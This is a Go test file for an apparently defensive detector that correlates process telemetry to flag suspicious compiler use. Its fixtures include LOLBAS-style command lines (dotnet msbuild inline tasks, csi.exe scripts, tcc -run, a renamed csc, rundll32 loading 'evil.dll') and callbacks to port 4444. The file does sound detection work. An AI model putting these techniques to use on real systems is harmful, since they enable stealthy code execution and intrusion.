		if len(l.Ancestry) != 1 || l.Ancestry[0] != "gcc" || l.Parent.Path != "" {
			t.Errorf("ancestry %v parent %q", l.Ancestry, l.Parent.Path)
		}
	})
}

// TestMoreCompilers: compilers and compile hosts beyond csc/msbuild/gcc, each one lineage with
// the right output, and their helpers folded into it.
func TestMoreCompilers(t *testing.T) {
	dotnet := `C:\Program Files\dotnet\dotnet.exe`
	msvc := `C:\Program Files\Microsoft Visual Studio\2022\BuildTools\VC\Tools\MSVC\14.38.33130\bin\Hostx64\x64\`
	tests := []struct {
		name, source string
		ev           Events
		compiler     string
		count        int // lineages in all
		output       string
		reasons      []string
		notReasons   []string
	}{
		{"dotnet msbuild inline task", "LOLBAS Dotnet (dotnet msbuild of an inline-task project)",
			winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"), win("{c}", "{p}", 1, dotnet, `dotnet.exe msbuild C:\Users\Public\t.xml`)}, nil, nil),
			"dotnet.exe", 1, "", []string{"msbuild_inline_project", "temp_source"}, nil},
		{"dotnet exec csc.dll", "the .NET SDK's Roslyn run directly (dotnet exec csc.dll)",
			winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"),
				win("{c}", "{p}", 1, dotnet, `dotnet.exe exec "C:\Program Files\dotnet\sdk\8.0.100\Roslyn\bincore\csc.dll" /out:C:\Users\Public\r.exe C:\Users\Public\r.cs`)}, nil, nil),
			"dotnet.exe", 1, `C:\Users\Public\r.exe`, []string{"temp_output", "temp_source"}, nil},
		{"dotnet app run is no compile", "dotnet running an application",
			winEv([]Proc{win("{c}", "", 1, dotnet, `dotnet.exe C:\app\App.dll --urls http://*:5000`)}, nil, nil), "", 0, "", nil, nil},
		{"csi script", "Roslyn scripting (csi.exe runs a .csx in its own process)",
			winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"),
				win("{c}", "{p}", 1, `C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\Roslyn\csi.exe`, `csi.exe C:\Users\Public\x.csx`)},
				nil, []Conn{{ProcKey: "{c}", Remote: "203.0.113.4", Port: 4444, Time: at(3)}}),
			"csi.exe", 1, "", []string{"temp_source", "compiler_network"}, nil},
		{"cl with link", "MSVC cl.exe /Fe, its link.exe a helper",
			winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"),
				win("{c}", "{p}", 1, msvc+"cl.exe", `cl.exe /nologo C:\Users\Public\x.c /FeC:\Users\Public\x.exe`),
				win("{l}", "{c}", 2, msvc+"link.exe", `link.exe /OUT:C:\Users\Public\x.exe x.obj`)},
				[]FileEvent{{ProcKey: "{l}", Path: `C:\Users\Public\x.exe`, Time: at(3)}}, nil),
			"cl.exe", 1, `C:\Users\Public\x.exe`, []string{"temp_output", "temp_source"}, nil},
		{"MinGW gcc on Windows", "MinGW-w64 gcc.exe building from a user folder",
			winEv([]Proc{win("{p}", "", 0, windowsSystem32+"cmd.exe", "cmd.exe"),
				win("{c}", "{p}", 1, `C:\msys64\mingw64\bin\gcc.exe`, `gcc.exe -o C:\Users\Public\y.exe C:\Users\Public\y.c`)}, nil, nil),
			"gcc.exe", 1, `C:\Users\Public\y.exe`, []string{"temp_output", "temp_source"}, nil},
		{"tcc -run", "TinyCC -run: compiled in memory, nothing written",
			nixEv("linux", []Proc{nix(100, 1, 0, "/bin/sh", "sh", "/tmp"), nix(101, 100, 1, "/usr/bin/tcc", "tcc -run /tmp/x.c", "/tmp")},
				nil, []Conn{{PID: 101, Remote: "198.51.100.9", Port: 4444, Time: at(2)}}),
			"tcc", 1, "", []string{"temp_source", "compiler_network"}, nil},
		{"swiftc chain", "swiftc (swift-driver) > swift-frontend > ld on macOS",
			nixEv("darwin", []Proc{nix(100, 1, 0, "/bin/zsh", "zsh", "/Users/u"),
				nix(101, 100, 1, "/usr/bin/swiftc", "swiftc -o /Users/Shared/s /Users/Shared/s.swift", "/Users/u"),
				nix(102, 101, 2, "/Library/Developer/CommandLineTools/usr/bin/swift-frontend", "swift-frontend -frontend -c", "/Users/u"),
				nix(103, 101, 3, "/usr/bin/ld", "ld -o /Users/Shared/s", "/Users/u")},
				[]FileEvent{{PID: 103, Path: "/Users/Shared/s", Time: at(4)}}, nil),
			"swiftc", 1, "/Users/Shared/s", []string{"temp_output", "temp_source"}, nil},
		{"renamed csc betrayed by cvtres (ETW)", "process_etw_events has no original name: cvtres under a non-compiler",
			Events{Platform: "windows", Procs: []Proc{
				{Key: "etw:1", PID: 10, Path: `C:\Users\Public\svch.exe`, Cmdline: `svch.exe /out:C:\Users\Public\z.exe z.cs`, Time: at(0), Source: "process_etw_events"},
				{Key: "etw:2", ParentKey: "etw:1", PID: 11, PPID: 10, Path: fw + "cvtres.exe", Cmdline: `cvtres.exe /NOLOGO /OUT:C:\Users\Public\RES1.tmp`, Time: at(1), Source: "process_etw_events"}}},
			"cvtres.exe", 1, "", []string{"renamed_compiler"}, nil},
		{"cvtres under csc is not renamed", "csc runs cvtres for resources",
			Events{Platform: "windows", Procs: []Proc{
				{Key: "etw:1", PID: 10, Path: fw + "csc.exe", Cmdline: `csc.exe /out:C:\src\z.exe C:\src\z.cs`, Time: at(0), Source: "process_etw_events"},
				{Key: "etw:2", ParentKey: "etw:1", PID: 11, PPID: 10, Path: fw + "cvtres.exe", Cmdline: `cvtres.exe /NOLOGO`, Time: at(1), Source: "process_etw_events"}}},
			"csc.exe", 1, `C:\src\z.exe`, nil, []string{"renamed_compiler"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Correlate(&tt.ev, Params{})
			if len(got) != tt.count {
				t.Fatalf("%s: %d lineages, want %d: %v", tt.source, len(got), tt.count, got)
			}
			if tt.count == 0 {
				return
			}
			l := lineageOf(t, tt.ev, tt.compiler)
			if l.OutputPath != tt.output {
				t.Errorf("output %q, want %q", l.OutputPath, tt.output)
			}
			checkReasons(t, l, tt.reasons, tt.notReasons)
		})
	}
}

// FuzzProxyCommandLine feeds telemetry command lines to the proxy and .NET CLI parsers: they
// never panic, and a proxy only ever runs an artifact its own arguments name.
func FuzzProxyCommandLine(f *testing.F) {
	f.Add(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\evil.dll,Start`, `C:\Users\Public\evil.dll`)
	f.Add("/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 ./x", "/dev/shm/x")
	f.Add(`C:\Program Files\dotnet\dotnet.exe`, `dotnet exec "C:\sdk\csc.dll" /out:a.exe a.cs`, `C:\a.exe`)
	f.Fuzz(func(t *testing.T, path, cmdline, artifact string) {
		p := &Proc{Path: path, Cmdline: cmdline, Cwd: `C:\Users\Public\`}
		_ = dotnetKind(cmdline)
		r := proxyRuleFor(p)
		if r == nil {
			return
		}
		if proxyRuns(r, p, artifact) && !strings.Contains(strings.ToLower(cmdline), strings.ToLower(strings.TrimSuffix(BaseName(artifact), ".ko"))) {
			t.Errorf("%s runs %q, which its command line %q does not name", r.Name, artifact, cmdline)
		}
	})
}
